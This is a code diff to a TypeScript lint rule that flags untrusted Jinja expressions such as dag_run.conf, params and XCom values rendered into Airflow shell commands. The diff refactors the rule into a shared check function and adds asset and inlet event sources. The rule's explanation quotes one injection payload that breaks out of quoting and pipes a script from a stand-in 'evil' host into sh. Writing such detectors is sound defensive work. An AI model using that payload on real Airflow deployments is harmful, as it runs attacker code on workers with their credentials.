@@ -1,12 +1,58 @@
+import type { SyntaxNode } from 'tree-sitter';
+import type { RuleContext } from '../../src/engine/context';
 import { defineRule } from '../../src/engine/rule';
-import { classifyJinja, commandParts, jinjaExpressions, restrictedParams, type JinjaClass, type Trust } from '../../src/engine/airflow';
+import {
+  classifyJinja,
+  commandParts,
+  jinjaExpressions,
+  restrictedParams,
+  SHELL_OPERATOR_CALLS,
+  shellScripts,
+  type JinjaClass,
+  type ShellScript,
+  type Trust,
+} from '../../src/engine/airflow';
 import type { Severity } from '../../src/report';
-import { matchedScripts, OPERATOR_QUERY, reportOnce } from './_util';
+import { BASH_TASK_QUERY, BASH_TASK_TRIGGER, bashTaskScripts, reportOnce } from './_util';
 
 const SEVERITY: Partial<Record<Trust, Severity>> = { user: 'high', xcom: 'medium', config: 'low' };
 
 /** Per-finding message template. */
 const MSG = '{label} renders `{{ {expr} }}` into a shell command: {why}';
+
+// conf > params > xcom (and inlet events) > config
+const score = (k: JinjaClass): number => (k.trust === 'user' ? (k.viaParams ? 4 : 5) : k.trust === 'xcom' ? 3 : k.trust === 'config' ? 2 : 0);
+
+/** Report the worst Jinja expression of each literal of the scripts that `anchor` (operator call or function) runs. */
+function check(anchor: SyntaxNode, scripts: ShellScript[], ctx: RuleContext): void {
+  let restricted: Set<string> | null = null;
+  for (const s of scripts) {
+    for (const lit of commandParts(s.node).literals) {
+      const exprs = jinjaExpressions(lit.text);
+      if (!exprs.length) continue;
+      restricted ??= restrictedParams(anchor, ctx);
+      let best = 0;
+      let first: { expr: string; why: string; severity: Severity } | null = null;
+      for (const e of exprs) {
+        const k = classifyJinja(e.expr, restricted);
+        const sc = score(k);
+        if (sc > best) {
+          best = sc;
+          first = { expr: e.expr, why: k.why, severity: sc === 4 ? 'medium' : (SEVERITY[k.trust] ?? 'high') };
+        }
+      }
+      if (!first) continue;
+      const f = first;
+      const expr = f.expr.length > 60 ? f.expr.slice(0, 57) + '…' : f.expr;
+      reportOnce(ctx, lit.node, () =>
+        ctx.report(lit.node, MSG.replace('{label}', s.label).replace('{expr}', expr).replace('{why}', f.why), {
+          severity: f.severity,
+          key: `${s.label} ${f.expr}`,
+        }),
+      );
+    }
+  }
+}
 
 export default defineRule({
   meta: {
@@ -19,7 +65,7 @@ export default defineRule({
     docs: {
       what:
         'Finds Jinja expressions that interpolate values controlled by others into a command that a shell interprets: `BashOperator`/`BashSensor` `bash_command` (all import paths, Airflow 1–3), `SSHOperator` and `WinRMOperator` `command`, the return value of `@task.bash` functions, `DockerOperator` `command` when run by `sh -c` (in the command or the entrypoint), and the script after `-c` of a `KubernetesPodOperator` whose `cmds`/`arguments` start with a shell.\n\n' +
-        'Sources: `dag_run.conf…`, asset/dataset events — *high*; `params…` — *medium* (the DAG author sets them, but `dag_run.conf` overrides any param, even task-level ones, while `[core] dag_run_conf_overrides_params` keeps its default `True`); `ti.xcom_pull(…)` — *medium*; `var.value…`/`var.json…`/`conn…` — *low* (editable in the UI by users who may not be allowed to run code). Not reported: Airflow\'s own macros (`ds`, `ts`, `run_id`, `data_interval_start`, `macros.ds_add(ds, 1)`…); params declared as `Param(…, enum=[…])` or with a numeric/boolean `type` on the DAG or operator (Airflow validates them); values made numeric or quoted by a filter (`| int`, `| float`, or a user-defined filter with `quote` in its name such as `shell_quote` registered as `shlex.quote`); values passed through `env=` and referenced as `"$VAR"`.',
+        'Sources: `dag_run.conf…`, `triggering_asset_events`/`triggering_dataset_events` (asset events can be created through the REST API) — *high*; `params…` — *medium* (the DAG author sets them, but `dag_run.conf` overrides any param, even task-level ones, while `[core] dag_run_conf_overrides_params` keeps its default `True`); `ti.xcom_pull(…)` and `inlet_events[…]` extras (written by the producing task, like an XCom) — *medium*; `var.value…`/`var.json…`/`conn…` — *low* (editable in the UI by users who may not be allowed to run code). Not reported: Airflow\'s own macros (`ds`, `ts`, `run_id`, `data_interval_start`, `macros.ds_add(ds, 1)`…); params declared as `Param(…, enum=[…])` or with a numeric/boolean `type` on the DAG or operator (Airflow validates them); values made numeric or quoted by a filter (`| int`, `| float`, or a user-defined filter with `quote` in its name such as `shell_quote` registered as `shlex.quote`); values passed through `env=` and referenced as `"$VAR"`.',
       why:
         'Airflow renders the template and hands the result to `bash -c`. A `dag_run.conf` value such as `x"; curl https://evil/x | sh; echo "` breaks out of any quoting and runs on the worker with its credentials. Anyone with permission to trigger the DAG (UI, REST API, a `TriggerDagRunOperator` fed by data) controls `conf` and, by default, `params`.',
       example:
@@ -28,38 +74,15 @@ export default defineRule({
         '```python\nBashOperator(\n    task_id="load",\n    bash_command=\'python load.py --table "$TABLE"\',  # the shell does not re-parse "$TABLE"\n    env={"TABLE": "{{ dag_run.conf[\'table\'] }}"},\n    append_env=True,\n)\n# or validate it: params={"table": Param("users", enum=["users", "orders"])}\n```',
     },
   },
-  query: OPERATOR_QUERY,
+  calls: SHELL_OPERATOR_CALLS,
+  onCall(call, _fn, ctx) {
+    const scripts = shellScripts(call, ctx);
+    if (scripts.length) check(call, scripts, ctx);
+  },
+  query: BASH_TASK_QUERY,
+  trigger: BASH_TASK_TRIGGER,
   onMatch(c, ctx) {
-    const m = matchedScripts(c, ctx);
-    if (!m) return;
-    let restricted: Set<string> | null = null;
-    for (const s of m.scripts) {
-      for (const lit of commandParts(s.node).literals) {
-        const exprs = jinjaExpressions(lit.text);
-        if (!exprs.length) continue;
-        restricted ??= restrictedParams(m.anchor, ctx);
-        // conf > params > xcom > config
-        const score = (k: JinjaClass) => (k.trust === 'user' ? (k.viaParams ? 4 : 5) : k.trust === 'xcom' ? 3 : k.trust === 'config' ? 2 : 0);
-        let best = 0;
-        let first: { expr: string; why: string; severity: Severity } | null = null;
-        for (const e of exprs) {
-          const k = classifyJinja(e.expr, restricted);
-          const sc = score(k);
-          if (sc > best) {
-            best = sc;
-            first = { expr: e.expr, why: k.why, severity: sc === 4 ? 'medium' : (SEVERITY[k.trust] ?? 'high') };
-          }
-        }
-        if (!first) continue;
-        const f = first;
-        const expr = f.expr.length > 60 ? f.expr.slice(0, 57) + '…' : f.expr;
-        reportOnce(ctx, lit.node, () =>
-          ctx.report(lit.node, MSG.replace('{label}', s.label).replace('{expr}', expr).replace('{why}', f.why), {
-            severity: f.severity,
-            key: `${s.label} ${f.expr}`,
-          }),
-        );
-      }
-    }
+    const m = bashTaskScripts(c, ctx);
+    if (m) check(m.anchor, m.scripts, ctx);
   },
 });
